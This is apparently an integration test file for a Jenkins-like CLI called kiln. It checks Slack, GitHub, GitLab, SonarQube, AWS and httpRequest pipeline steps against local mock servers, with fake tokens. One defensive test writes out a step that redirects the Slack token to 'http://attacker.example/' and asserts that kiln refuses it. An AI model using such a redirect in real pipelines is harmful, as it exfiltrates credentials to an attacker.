// The HTTP service steps through `kiln run` (the real CLI) against real HTTP servers in this
// process that speak each service's documented wire format: what the service receives (path,
// auth header, JSON body) and what the console shows, with bad tokens, 500s, timeouts and
// failOnError.
import { test, after } from 'node:test';
import assert from 'node:assert/strict';
import { writeFileSync, readFileSync, mkdirSync } from 'node:fs';
import path from 'node:path';
import https from 'node:https';
import type { AddressInfo } from 'node:net';
import { tempDir } from '../../helpers/tmp.ts';
import { runKiln } from '../../helpers/kiln.ts';
import { startService, type Handler, type TestService } from './service-helper.ts';
import { selfSigned } from '../mail/smtp-helper.ts';

const services: TestService[] = [];
after(async () => { await Promise.all(services.map((s) => s.close())); });
async function service(h: Handler): Promise<TestService> {
  const s = await startService(h);
  services.push(s);
  return s;
}

const SHA = '0123456789abcdef0123456789abcdef01234567';
const CREDS = {
  'slack-bot': { type: 'secretText', secret: 'xoxb-secret-bot-token' },
  'gh-token': { type: 'secretText', secret: 'ghp_secrettoken123' },
  'gl-token': { type: 'secretText', secret: 'glpat-secrettoken' },
  'sonar-token': { type: 'secretText', secret: 'squ_sonarsecret123' },
  'aws-keys': { type: 'usernamePassword', username: 'AKIAEXAMPLEKEY', password: 'aws/secret+key123' },
  'web-user': { type: 'usernamePassword', username: 'alice', password: 'alice-password-1' },
};

function project(jenkinsfile: string, files: Record<string, string> = {}): string {
  const dir = tempDir('http-services');
  writeFileSync(path.join(dir, 'Jenkinsfile'), jenkinsfile);
  writeFileSync(path.join(dir, 'creds.json'), JSON.stringify(CREDS));
  for (const [f, text] of Object.entries(files)) {
    mkdirSync(path.dirname(path.join(dir, f)), { recursive: true });
    writeFileSync(path.join(dir, f), text);
  }
  return dir;
}
const run = (dir: string, env: Record<string, string> = {}) => runKiln(['run', '--job', 'shop', '--credentials', 'creds.json'], { cwd: dir, env: { KILN_SLACK_CREDENTIAL: '', KILN_GITHUB_CREDENTIAL: '', KILN_GITLAB_CREDENTIAL: '', KILN_SONAR_SERVERS: '', ...env } });

test('slackSend posts with chat.postMessage and a bot token, returns the thread, and replies in it', async () => {
  let n = 0;
  const slack = await service((r) => {
    if (r.path !== '/api/chat.postMessage') return undefined;
    if (r.headers.authorization !== 'Bearer xoxb-secret-bot-token') return { json: { ok: false, error: 'invalid_auth' } };
    return { json: { ok: true, channel: 'C0123', ts: `1503435956.00024${++n}` } };
  });
  const dir = project(`
node {
  def r = slackSend(channel: '#ci', color: 'good', message: 'Build ok')
  echo "thread=\${r.threadId} ts=\${r.ts} channel=\${r.channelId}"
  slackSend(channel: r.threadId, message: 'details', replyBroadcast: true)
}`);
  const r = await run(dir, { KILN_SLACK_BASE_URL: `${slack.url}/api/`, KILN_SLACK_CREDENTIAL: 'slack-bot', KILN_SLACK_BOT_USER: 'true' });
  assert.equal(r.code, 0, r.stdout + r.stderr);
  assert.match(r.stdout, /^Slack Send Pipeline step running, values are - baseUrl: <empty>, teamDomain: <empty>, channel: #ci, color: good, botUser: true, tokenCredentialId: slack-bot, notifyCommitters: false, iconEmoji: <empty>, username: <empty>, timestamp: <empty>$/m);
  assert.match(r.stdout, /^thread=C0123:1503435956\.000241 ts=1503435956\.000241 channel=C0123$/m);
  assert.doesNotMatch(r.stdout, /xoxb-secret/);
  assert.equal(slack.received.length, 2);
  const [first, reply] = slack.received as [typeof slack.received[0], typeof slack.received[0]];
  assert.deepEqual(first.json, { channel: '#ci', link_names: 1, attachments: [{ color: 'good', text: 'Build ok', fallback: 'Build ok', mrkdwn_in: ['pretext', 'text', 'fields'] }] });
  assert.deepEqual(reply.json, { channel: 'C0123', link_names: 1, text: 'details', thread_ts: '1503435956.000241', reply_broadcast: true });
});

test("slackSend: Slack's ok:false is an ERROR line and the build goes on; failOnError fails it", async () => {
  const slack = await service(() => ({ json: { ok: false, error: 'channel_not_found' } }));
  const env = { KILN_SLACK_BASE_URL: `${slack.url}/api/`, KILN_SLACK_CREDENTIAL: 'slack-bot' };
  const soft = await run(project(`node { slackSend channel: '#nope', message: 'x'; echo 'after' }`), env);
  assert.equal(soft.code, 0, soft.stdout + soft.stderr);
  assert.match(soft.stdout, /^Slack: Slack answered HTTP 200: channel_not_found$/m);
  assert.match(soft.stdout, /^ERROR: Slack notification failed\. See Kiln's console above for details\.$/m);
  assert.match(soft.stdout, /^after$/m);
  const hard = await run(project(`node { slackSend channel: '#nope', message: 'x', failOnError: true; echo 'after' }`), env);
  assert.equal(hard.code, 1, hard.stdout + hard.stderr);
  assert.doesNotMatch(hard.stdout, /^after$/m);
});

test('slackSend through an incoming webhook: POST base + token; a 404 answer is reported', async () => {
  const hook = await service((r) => (r.path === '/services/T000/B000/xoxb-secret-bot-token' ? { text: 'ok' } : { status: 404, text: 'no_service' }));
  const ok = await run(project(`node { slackSend message: 'hello from kiln' }`), { KILN_SLACK_BASE_URL: `${hook.url}/services/T000/B000/`, KILN_SLACK_CREDENTIAL: 'slack-bot', KILN_SLACK_BOT_USER: 'false', KILN_SLACK_CHANNEL: '#builds' });
  assert.equal(ok.code, 0, ok.stdout + ok.stderr);
  assert.deepEqual(hook.received[0]!.json, { channel: '#builds', link_names: 1, text: 'hello from kiln' });
  // A step's own baseUrl with the host's token would send the token elsewhere: refused.
  const stolen = await run(project(`node { slackSend baseUrl: 'http://attacker.example/', message: 'x' }`), { KILN_SLACK_BASE_URL: `${hook.url}/services/`, KILN_SLACK_CREDENTIAL: 'slack-bot', KILN_SLACK_BOT_USER: 'false' });
  assert.equal(stolen.code, 1);
  assert.match(stolen.stdout, /slackSend: baseUrl 'http:\/\/attacker\.example\/' is not the Slack URL the administrator configured/);
  assert.equal(hook.received.length, 1);
});

test('githubNotify sets a commit status with the token; a bad token and a missing repository fail the step', async () => {
  const gh = await service((r) => {
    if (r.headers.authorization !== 'Bearer ghp_secrettoken123') return { status: 401, json: { message: 'Bad credentials' } };
    if (r.path === `/repos/acme/shop/statuses/${SHA}`) return { status: 201, json: { id: 1, state: (r.json as { state: string }).state } };
    return { status: 404, json: { message: 'Not Found' } };
  });
  const env = { KILN_GITHUB_API_URL: gh.url, KILN_GITHUB_CREDENTIAL: 'gh-token' };
  const ok = await run(project(`node { withEnv(['GIT_URL=https://github.com/acme/shop.git', 'GIT_COMMIT=${SHA}']) { githubNotify status: 'SUCCESS', context: 'ci/tests', description: 'All green' } }`), env);
  assert.equal(ok.code, 0, ok.stdout + ok.stderr);
  assert.deepEqual(gh.received[0]!.json, { state: 'success', context: 'ci/tests', description: 'All green' });
  assert.match(ok.stdout, /\[githubNotify\] acme\/shop@0123456789ab: ci\/tests is success/);
  const missing = await run(project(`node { githubNotify status: 'PENDING', account: 'acme', repo: 'nope', sha: '${SHA}' }`), env);
  assert.equal(missing.code, 1);
  assert.match(missing.stdout, /githubNotify: The specified repository does not exist for the specified account, or credentials do not have permissions to access it \(acme\/nope\)/);
  const bad = await run(project(`node { githubNotify status: 'FAILURE', account: 'acme', repo: 'shop', sha: '${SHA}', credentialsId: 'web-user' }`), env);
  assert.equal(bad.code, 1);
  assert.match(bad.stdout, /githubNotify: The supplied credentials are invalid to login/);
});

test('withChecks: in progress, then completed by the block; publishChecks with annotations; no GitHub: no publisher', async () => {
  let id = 40;
  const gh = await service((r) => (r.path.startsWith('/repos/acme/shop/check-runs') ? { status: r.method === 'POST' ? 201 : 200, json: { id: r.method === 'POST' ? ++id : Number(r.path.split('/').pop()) } } : undefined));
  const dir = project(`
node {
  withEnv(['GIT_URL=git@github.com:acme/shop.git', 'GIT_COMMIT=${SHA}']) {
    withChecks('tests') { echo 'testing' }
    publishChecks name: 'lint', title: 'Lint', summary: '1 warning', conclusion: 'NEUTRAL',
      annotations: [[path: 'src/a.js', startLine: 3, endLine: 3, message: 'unused', annotationLevel: 'WARNING']]
    catchError(buildResult: 'FAILURE') { withChecks('deploy') { error 'deploy broke' } }
  }
}`);
  const r = await run(dir, { KILN_GITHUB_API_URL: gh.url, KILN_GITHUB_CREDENTIAL: 'gh-token' });
  assert.equal(r.code, 1, r.stdout + r.stderr);
  const calls = gh.received.map((c) => `${c.method} ${c.path} ${(c.json as { status: string; conclusion?: string }).status}/${(c.json as { conclusion?: string }).conclusion ?? ''}`);
  assert.deepEqual(calls, [
    'POST /repos/acme/shop/check-runs in_progress/',
    'PATCH /repos/acme/shop/check-runs/41 completed/success',
    'POST /repos/acme/shop/check-runs completed/neutral',
    'POST /repos/acme/shop/check-runs in_progress/',
    'PATCH /repos/acme/shop/check-runs/43 completed/failure',
  ]);
  assert.deepEqual((gh.received[2]!.json as { output: unknown }).output, { title: 'Lint', summary: '1 warning', annotations: [{ path: 'src/a.js', start_line: 3, end_line: 3, annotation_level: 'warning', message: 'unused' }] });
  assert.match((gh.received[4]!.json as { output: { summary: string } }).output.summary, /deploy broke/);
  assert.match(r.stdout, /^GitHub check \(name: tests, id: 41\) has been published\.$/m);
  const none = await run(project(`node { publishChecks name: 'x'; echo 'after' }`));
  assert.equal(none.code, 0, none.stdout + none.stderr);
  assert.match(none.stdout, /^\[Checks API\] No suitable checks publisher found\.$/m);
});

test('gitlabCommitStatus: running then success or failed; a GitLab 500 is a console line, not the build result', async () => {
  let fail = false;
  const gl = await service((r) => {
    if (fail) return { status: 500, json: { message: '500 Internal Server Error' } };
    if (r.headers['private-token'] !== 'glpat-secrettoken') return { status: 401, json: { message: '401 Unauthorized' } };
    return r.path === `/api/v4/projects/group%2Fsub%2Fshop/statuses/${SHA}` ? { status: 201, json: { id: 1 } } : undefined;
  });
  const env = { KILN_GITLAB_URL: gl.url, KILN_GITLAB_CREDENTIAL: 'gl-token' };
  const jf = (body: string) => project(`node { withEnv(['GIT_URL=https://gitlab.example/group/sub/shop.git', 'GIT_COMMIT=${SHA}']) { ${body} } }`);
  const ok = await run(jf(`gitlabCommitStatus('build') { echo 'b' }; catchError { gitlabCommitStatus(name: 'test') { error 'red' } }; updateGitlabCommitStatus name: 'deploy', state: 'pending'`), env);
  assert.equal(ok.code, 1, ok.stdout + ok.stderr);
  assert.deepEqual(gl.received.map((c) => `${(c.json as { name: string }).name}=${(c.json as { state: string }).state}`), ['build=running', 'build=success', 'test=running', 'test=failed', 'deploy=pending']);
  fail = true;
  const down = await run(jf(`updateGitlabCommitStatus name: 'x', state: 'success'; echo 'after'`), env);
  assert.equal(down.code, 0, down.stdout + down.stderr);
  assert.match(down.stdout, /^Failed to update Gitlab commit status for project 'group\/sub\/shop': HTTP 500: 500 Internal Server Error$/m);
});

test('httpRequest: method, headers, body, Basic auth to the given URL, the response object, codes and timeouts', async () => {
  const web = await service((r) => {
    if (r.path === '/slow') return { text: 'late', delayMs: 5000 };
    if (r.path === '/boom') return { status: 500, text: 'it broke' };
    return { status: 201, json: { got: r.json, auth: r.headers.authorization, x: r.headers['x-trace'], ct: r.headers['content-type'] }, headers: { 'X-Answer': '42' } };
  });
  const dir = project(`
node {
  def r = httpRequest url: '${web.url}/items', httpMode: 'POST', contentType: 'APPLICATION_JSON', requestBody: '{"a":1}',
    customHeaders: [[name: 'X-Trace', value: 'abc'], [name: 'X-Key', value: 'hidden-value', maskValue: true]], authentication: 'web-user',
    consoleLogResponseBody: true, validResponseCodes: '200:201', outputFile: 'out/answer.json'
  echo "status=\${r.status} answer=\${r.headers['x-answer'][0]} via-getter=\${r.getStatus()}"
  def j = readJSON text: r.content
  echo "auth=\${j.auth} x=\${j.x} got=\${j.got.a}"
}`);
  const r = await run(dir);
  assert.equal(r.code, 0, r.stdout + r.stderr);
  assert.match(r.stdout, /^HttpMethod: POST$/m);
  assert.match(r.stdout, new RegExp(`^URL: ${web.url}/items$`, 'm'));
  assert.match(r.stdout, /^X-Key: \*\*\*\*\*$/m);
  assert.match(r.stdout, /^Response Code: HTTP\/1\.1 201 Created$/m);
  assert.match(r.stdout, /^Success: Status code 201 is in the accepted range: 200:201$/m);
  assert.match(r.stdout, /^status=201 answer=42 via-getter=201$/m);
  assert.match(r.stdout, /^auth=\*+ x=abc got=1$|^auth=Basic YWxpY2U6YWxpY2UtcGFzc3dvcmQtMQ== x=abc got=1$/m);
  assert.equal(web.received[0]!.headers.authorization, `Basic ${Buffer.from('alice:alice-password-1').toString('base64')}`);
  assert.equal(web.received[0]!.headers['x-key'], 'hidden-value');
  assert.doesNotMatch(r.stdout, /hidden-value/);
  const saved = readFileSync(path.join(dir, '.kiln', 'workspace', '1', 'out', 'answer.json'), 'utf8');
  assert.match(saved, /"got":\{"a":1\}/);

  const boom = await run(project(`node { httpRequest '${web.url}/boom' }`));
  assert.equal(boom.code, 1);
  assert.match(boom.stdout, /Fail: Status code 500 is not in the accepted range: 100:399/);
  const slow = await run(project(`node { httpRequest url: '${web.url}/slow', timeout: 1 }`));
  assert.equal(slow.code, 1);
  assert.match(slow.stdout, /httpRequest: http:\/\/127\.0\.0\.1:\d+ did not answer within 1 s/);
  // As on a controller: the server's own network is refused.
  const guarded = await run(project(`node { httpRequest '${web.url}/items' }`), { KILN_HTTP_REQUEST_PRIVATE: 'false' });
  assert.equal(guarded.code, 1);
  assert.match(guarded.stdout, /httpRequest: 127\.0\.0\.1 is 127\.0\.0\.1, an address of the Kiln server's own network: builds may not reach it unless an administrator allows the host/);
});

test('withSonarQubeEnv exports the server (token masked); waitForQualityGate polls ce/task and the gate', async () => {
  let polls = 0;
  const sq = await service((r) => {
    if (r.headers.authorization !== `Basic ${Buffer.from('squ_sonarsecret123:').toString('base64')}`) return { status: 401, json: { errors: [{ msg: 'Unauthorized' }] } };
    if (r.path === '/api/ce/task?id=AXtask1') return { json: { task: { id: 'AXtask1', status: ++polls < 2 ? 'PENDING' : 'SUCCESS', analysisId: 'AXan1' } } };
    if (r.path === '/api/ce/task?id=AXtask2') return { json: { task: { id: 'AXtask2', status: 'SUCCESS', analysisId: 'AXan2' } } };
    if (r.path === '/api/qualitygates/project_status?analysisId=AXan1') return { json: { projectStatus: { status: 'OK' } } };
    if (r.path === '/api/qualitygates/project_status?analysisId=AXan2') return { json: { projectStatus: { status: 'ERROR' } } };
    return undefined;
  });
  const report = (task: string) => `projectKey=shop\nserverUrl=${sq.url}\nceTaskId=${task}\nceTaskUrl=${sq.url}/api/ce/task?id=${task}\n`;
  const jf = (task: string, abort: boolean) => `
node {
  withSonarQubeEnv('sq') {
    sh 'echo "url=$SONAR_HOST_URL token=$SONAR_AUTH_TOKEN name=$SONAR_CONFIG_NAME"; echo "$SONARQUBE_SCANNER_PARAMS"'
    sh 'mkdir -p .scannerwork && printf "${report(task).replace(/\n/g, '\\\\n')}" > .scannerwork/report-task.txt'
  }
  def qg = waitForQualityGate(abortPipeline: ${abort})
  echo "gate=\${qg.status}"
}`;
  const env = { KILN_SONAR_SERVERS: `sq=${sq.url}=sonar-token` };
  const ok = await run(project(jf('AXtask1', true)), env);
  assert.equal(ok.code, 0, ok.stdout + ok.stderr);
  assert.match(ok.stdout, /^Injecting SonarQube environment variables using the configuration: sq$/m);
  assert.match(ok.stdout, new RegExp(`^url=${sq.url} token=\\*+ name=sq$`, 'm'));
  assert.doesNotMatch(ok.stdout, /squ_sonarsecret123/);
  assert.match(ok.stdout, /^Checking status of SonarQube task 'AXtask1' on server 'sq'$/m);
  assert.match(ok.stdout, /^SonarQube task 'AXtask1' status is 'PENDING'$/m);
  assert.match(ok.stdout, /^SonarQube task 'AXtask1' completed\. Quality gate is 'OK'$/m);
  assert.match(ok.stdout, /^gate=OK$/m);
  const red = await run(project(jf('AXtask2', true)), env);
  assert.equal(red.code, 1, red.stdout + red.stderr);
  assert.match(red.stdout, /Pipeline aborted due to quality gate failure: ERROR/);
  const soft = await run(project(jf('AXtask2', false)), env);
  assert.equal(soft.code, 0, soft.stdout + soft.stderr);
  assert.match(soft.stdout, /^gate=ERROR$/m);
  const unknown = await run(project(`node { withSonarQubeEnv('other') { echo 'x' } }`), env);
  assert.equal(unknown.code, 1);
  assert.match(unknown.stdout, /SonarQube installation defined in this job \(other\) does not match any configured installation\. Number of installations that can be configured: 1\./);
});

test('withAWS exports the keys (secret masked) and the region; role: needs keys; MFA is refused', async () => {
  const ok = await run(project(`node { withAWS(credentials: 'aws-keys', region: 'eu-west-1') { sh 'echo "id=$AWS_ACCESS_KEY_ID secret=$AWS_SECRET_ACCESS_KEY region=$AWS_DEFAULT_REGION"' } }`));
  assert.equal(ok.code, 0, ok.stdout + ok.stderr);
  assert.match(ok.stdout, /^Setting AWS region eu-west-1 $/m);
  assert.match(ok.stdout, /^Constructing AWS Credentials$/m);
  assert.match(ok.stdout, /^id=AKIAEXAMPLEKEY secret=\*+ region=eu-west-1$/m);
  assert.doesNotMatch(ok.stdout, /aws\/secret\+key123/);
  // role: is assumed with STS (test/plugins/aws/services.test.ts): without keys it fails as the SDK does.
  const role = await run(project(`node { withAWS(role: 'deployer', roleAccount: '123456789012') { echo 'x' } }`));
  assert.equal(role.code, 1);
  assert.match(role.stdout, /withAWS: Unable to load AWS credentials from any provider in the chain/);
  assert.doesNotMatch(role.stdout, /^x$/m);
  const mfa = await run(project(`node { withAWS(credentials: 'aws-keys', role: 'deployer', iamMfaToken: '123456') { echo 'x' } }`));
  assert.equal(mfa.code, 1);
  assert.match(mfa.stdout, /withAWS: iamMfaToken: Kiln assumes roles with role: \(STS AssumeRole\) only/);
});

test('bad credentials and broken services: Slack invalid_auth, GitHub 500, SonarQube 401 and a failed task', async () => {
  const slack = await service((r) => (r.headers.authorization === 'Bearer xoxb-secret-bot-token' ? { json: { ok: true, channel: 'C1', ts: '1.1' } } : { json: { ok: false, error: 'invalid_auth' } }));
  const wrong = await run(project(`node { slackSend channel: '#ci', message: 'x', tokenCredentialId: 'gh-token', failOnError: true }`), { KILN_SLACK_BASE_URL: `${slack.url}/api/`, KILN_SLACK_CREDENTIAL: 'slack-bot' });
  assert.equal(wrong.code, 1, wrong.stdout + wrong.stderr);
  assert.match(wrong.stdout, /^Slack: Slack answered HTTP 200: invalid_auth$/m);
  assert.equal(slack.received[0]!.headers.authorization, 'Bearer ghp_secrettoken123', "the step's own credential is used");
  assert.doesNotMatch(wrong.stdout, /ghp_secrettoken123/);

  const gh = await service(() => ({ status: 500, json: { message: 'Server Error' } }));
  const down = await run(project(`node { githubNotify status: 'SUCCESS', account: 'acme', repo: 'shop', sha: '${SHA}' }`), { KILN_GITHUB_API_URL: gh.url, KILN_GITHUB_CREDENTIAL: 'gh-token' });
  assert.equal(down.code, 1);
  assert.match(down.stdout, /githubNotify: GitHub refused the status: HTTP 500: Server Error/);

  const sq = await service((r) => (r.path.includes('AXbad') ? { json: { task: { id: 'AXbad', status: 'FAILED', errorMessage: 'Project not found' } } } : { status: 401, json: { errors: [{ msg: 'Unauthorized' }] } }));
  const report = (task: string) => ({ '.scannerwork/report-task.txt': `projectKey=shop\nserverUrl=${sq.url}\nceTaskId=${task}\n` });
  const env = { KILN_SONAR_SERVERS: `sq=${sq.url}=sonar-token` };
  const denied = await run(project(`node { waitForQualityGate() }`, report('AXtask9')), env);
  assert.equal(denied.code, 1);
  assert.match(denied.stdout, /waitForQualityGate: the SonarQube server refused the token \(HTTP 401\)/);
  const failed = await run(project(`node { waitForQualityGate() }`, report('AXbad')), env);
  assert.equal(failed.code, 1);
  assert.match(failed.stdout, /SonarQube analysis 'AXbad' failed: Project not found/);
  const none = await run(project(`node { waitForQualityGate() }`), env);
  assert.equal(none.code, 1);
  assert.match(none.stdout, /waitForQualityGate: no SonarQube analysis found/);
});

test('httpRequest to a self-signed https server fails unless ignoreSslErrors', async () => {
  const { key, cert } = selfSigned();
  const server = https.createServer({ key, cert }, (_req, res) => { res.writeHead(200, { 'Content-Type': 'text/plain' }); res.end('secure hello'); });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  after(() => new Promise<void>((resolve) => { server.closeAllConnections(); server.close(() => resolve()); }));
  const url = `https://127.0.0.1:${(server.address() as AddressInfo).port}/`;
  const strict = await run(project(`node { httpRequest '${url}' }`));
  assert.equal(strict.code, 1);
  assert.match(strict.stdout, /httpRequest: https:\/\/127\.0\.0\.1:\d+: self[- ]signed certificate/);
  const lax = await run(project(`node { def r = httpRequest url: '${url}', ignoreSslErrors: true; echo "got \${r.content}" }`));
  assert.equal(lax.code, 0, lax.stdout + lax.stderr);
  assert.match(lax.stdout, /^got secure hello$/m);
});

test('slackSend with blocks, with attachments as JSON text, and timestamp: updating a message with chat.update', async () => {
  const slack = await service((r) => ({ json: { ok: true, channel: 'C7', ts: r.path.endsWith('chat.update') ? '5.5' : '4.4' } }));
  const dir = project(`
node {
  slackSend channel: '#ci', message: 'fallback', blocks: [[type: 'section', text: [type: 'mrkdwn', text: '*hi*']]]
  slackSend channel: '#ci', attachments: '[{"color":"#36a64f","text":"attached"}]'
  def r = slackSend(channel: 'C7', message: 'edited', timestamp: '4.4')
  echo "updated=\${r.ts}"
}`);
  const r = await run(dir, { KILN_SLACK_BASE_URL: `${slack.url}/api/`, KILN_SLACK_CREDENTIAL: 'slack-bot' });
  assert.equal(r.code, 0, r.stdout + r.stderr);
  assert.deepEqual(slack.received.map((x) => x.path), ['/api/chat.postMessage', '/api/chat.postMessage', '/api/chat.update']);
  assert.deepEqual(slack.received[0]!.json, { channel: '#ci', link_names: 1, blocks: [{ type: 'section', text: { type: 'mrkdwn', text: '*hi*' } }], text: 'fallback' });
  assert.deepEqual(slack.received[1]!.json, { channel: '#ci', link_names: 1, attachments: [{ color: '#36a64f', text: 'attached' }] });
  assert.deepEqual(slack.received[2]!.json, { channel: 'C7', link_names: 1, text: 'edited', ts: '4.4' });
  assert.match(r.stdout, /^updated=5\.5$/m);
});
